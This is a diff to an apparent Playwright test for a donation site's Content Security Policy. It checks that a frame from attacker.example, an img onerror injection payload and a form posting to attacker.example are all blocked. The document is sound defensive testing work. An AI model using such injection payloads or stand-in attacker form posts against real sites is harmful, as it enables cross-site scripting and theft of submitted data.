@@ -63,25 +63,26 @@ test("S-76: nothing of ours is blocked on any page, from the campaign to the tha
   expect(blocked).toEqual([]);
 });
 
-test("S-76: S-118: a form to another site, a script without the nonce and a frame are blocked", async ({
-  page,
-}) => {
+test("S-76: S-118: a form to another site, a script in markup and a frame are blocked", async ({ page }) => {
   const blocked: string[] = [];
   page.on("console", (message) => blocked.push(message.text()));
   await openForm(page);
   await page.evaluate(() => {
     const frame = document.createElement("iframe");
     frame.src = "https://attacker.example/";
-    const script = document.createElement("script");
-    script.textContent = "window.wasRun = true";
+    // What markup that got into a page would try; a script element put in this way never runs in any browser.
+    const markup = document.createElement("div");
+    markup.innerHTML = '<img src="data:," onerror="window.wasRun = true">';
     const form = document.createElement("form");
     form.method = "post";
     form.action = "https://attacker.example/";
-    document.body.append(frame, script, form);
+    document.body.append(frame, markup, form);
     form.submit();
   });
-  for (const directive of ["frame-src", "script-src", "form-action"])
-    await expect.poll(() => blocked.filter((text) => text.includes(directive)).length).toBeGreaterThan(0);
+  const directives = ["form-action", "frame-src", "script-src"];
+  await expect
+    .poll(() => directives.filter((name) => blocked.some((text) => text.includes(name))))
+    .toEqual(directives);
   expect(await page.evaluate(() => "wasRun" in window)).toBe(false);
   expect(page.url()).toContain("/give");
 });
